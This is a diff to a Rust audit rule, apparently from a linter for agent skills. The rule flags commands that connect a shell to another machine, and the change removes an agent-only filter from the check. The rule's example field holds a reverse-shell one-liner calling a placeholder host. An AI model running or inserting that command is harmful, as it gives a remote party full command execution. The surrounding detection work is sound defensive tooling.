@@ -2,7 +2,7 @@
 
 use crate::audit::Topic;
 use crate::audit::reverse_shell::connects_shell;
-use crate::audit_places::{Place, places};
+use crate::audit_places::places;
 use crate::diagnostic::Severity;
 use crate::parsed_skill::ParsedSkill;
 use crate::rule::{Check, Finding, Rule};
@@ -13,7 +13,7 @@ pub(crate) const RULE: Rule = Rule {
     severity: Severity::Error,
     refuses: true,
     summary: "a command that connects a shell to another machine",
-    why: "The owner of the other machine can run any command. A command in running text is a warning in code and a note otherwise; comments, and code in sections about attacks or that the text forbids, are notes. Of 181 public skills, none has one.",
+    why: "The owner of the other machine can run any command. A command in running text is a warning in code and a note otherwise; comments, documents such as JSON, and code in sections about attacks or that the text forbids, are notes. Of 181 public skills, none has one.",
     example: "bash -i >& /dev/tcp/host.example/4444 0>&1",
     how_to_fix: "remove the command; use `ssh` to work on another machine",
     check: Check::Skill(check),
@@ -25,7 +25,7 @@ const NEAR: usize = 2000;
 
 fn check(skill: &ParsedSkill<'_>) -> Vec<Finding> {
     let mut found: Vec<Finding> = Vec::new();
-    for place in places(skill, Topic::ReverseShell).filter(Place::is_for_agents) {
+    for place in places(skill, Topic::ReverseShell) {
         if !connects_shell(place.text, place.span) {
             continue;
         }
